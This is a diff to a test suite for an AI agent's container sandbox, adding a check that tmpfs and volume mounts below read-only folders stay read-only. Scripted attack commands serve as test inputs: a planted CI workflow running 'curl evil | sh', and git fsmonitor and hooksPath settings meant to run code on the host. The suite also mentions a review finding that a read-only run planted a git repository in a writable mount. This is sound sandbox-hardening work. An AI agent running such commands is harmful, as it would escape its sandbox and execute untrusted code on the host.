@@ -41,11 +41,14 @@ describe.skipIf(!dockerAvailable())("changed files and protected paths", () => {
         "mv .github .github-old && mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml && echo moved",
       ),
       create: bashThenText("mkdir -p .github/workflows && echo 'run: curl evil | sh' > .github/workflows/ci.yml"),
+      submounts: bashThenText(
+        'for f in cache/c.txt ro/vol/x .github/workflows/mounted/ci.yml; do echo W >> $f; echo "$f=$?"; done; git init -q cache/repo; echo init=$?',
+      ),
       gitconfig: bashThenText(
         "git config core.fsmonitor 'touch /tmp/owned'; echo config=$?; echo '[core] hooksPath = x' >> .git/config; echo append=$?",
       ),
     });
-    const models = modelsFor(server, ["normal", "direct", "rename", "create", "gitconfig"]);
+    const models = modelsFor(server, ["normal", "direct", "rename", "create", "gitconfig", "submounts"]);
     agent = new ContainerPiAgent({ models, sandbox: "workspace-write" });
     modelsFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-models-")), "models.json");
     fs.writeFileSync(modelsFile, JSON.stringify(models));
@@ -81,6 +84,51 @@ describe.skipIf(!dockerAvailable())("changed files and protected paths", () => {
     expect(out).toContain("status=1");
     expect(fs.readFileSync(path.join(cwd, ".github/workflows/ci.yml"), "utf8")).toBe(CI_YML);
     expect(details.changedFiles).toEqual({ created: [], modified: [], deleted: [] });
+  });
+
+  it("a mount point below a read-only tree is read-only too (a tmpfs, a cache volume): runc left it writable on Docker before 25, and a read-only run planted a git repository there (review, session 33)", async () => {
+    const cwd = makeWorkspace({ "main.txt": "m", ".github/workflows/mounted/.keep": "" });
+    const outside = makeWorkspace({ "vol/.keep": "" });
+    fs.chmodSync(outside, 0o755);
+    // The sandbox sees the read-only folder at ro/ (a link to it inside the workspace would not be mounted).
+    fs.mkdirSync(path.join(cwd, "ro"));
+    const mounted: string[] = [];
+    const tmpfs = (at: string) => {
+      fs.mkdirSync(at, { recursive: true });
+      execFileSync("mount", ["-t", "tmpfs", "-o", "size=1m,mode=1777", "tmpfs", at]);
+      mounted.unshift(at);
+    };
+    try {
+      tmpfs(path.join(cwd, "cache"));
+      fs.writeFileSync(path.join(cwd, "cache/c.txt"), "host\n");
+      fs.chmodSync(path.join(cwd, "cache/c.txt"), 0o666);
+      tmpfs(path.join(outside, "vol"));
+      execFileSync("mount", ["--rbind", outside, path.join(cwd, "ro")]);
+      mounted.unshift(path.join(cwd, "ro"));
+      tmpfs(path.join(cwd, ".github/workflows/mounted"));
+      const readOnly = { ...loadPolicy("read-only"), name: "read-only-mounts", readOnlyMounts: [outside] };
+      await agent.runDetailed("work", { cwd, model: "scripted/submounts", policy: readOnly });
+      let out = lastToolResult(server, "submounts");
+      for (const f of ["cache/c.txt", "ro/vol/x"]) expect(out).toContain(`${f}: Read-only file system`);
+      expect(out).toMatch(/init=[1-9]/);
+      expect(fs.readFileSync(path.join(cwd, "cache/c.txt"), "utf8")).toBe("host\n");
+      expect(fs.readdirSync(path.join(cwd, "cache"))).toEqual(["c.txt"]);
+      expect(fs.readdirSync(path.join(outside, "vol"))).toEqual([]);
+      // The readOnlyMounts folder at its own path likewise, and a mount below a protected folder of a writable workspace.
+      const writable = { ...loadPolicy("workspace-write"), name: "protected-mounts", readOnlyMounts: [outside] };
+      server.setScript(
+        "submounts",
+        bashThenText(`for f in ${outside}/vol/x .github/workflows/mounted/ci.yml; do echo W >> $f; echo "$f=$?"; done`),
+      );
+      await agent.runDetailed("work", { cwd, model: "scripted/submounts", policy: writable });
+      out = lastToolResult(server, "submounts");
+      for (const f of [`${outside}/vol/x`, ".github/workflows/mounted/ci.yml"])
+        expect(out).toContain(`${f}: Read-only file system`);
+      expect(fs.readdirSync(path.join(outside, "vol"))).toEqual([]);
+      expect(fs.readdirSync(path.join(cwd, ".github/workflows/mounted"))).toEqual([]);
+    } finally {
+      for (const at of mounted) execFileSync("umount", ["-l", at]);
+    }
   });
 
   it("mounts an existing protected file read-only: git config cannot set a host-side hook (example policy)", async () => {
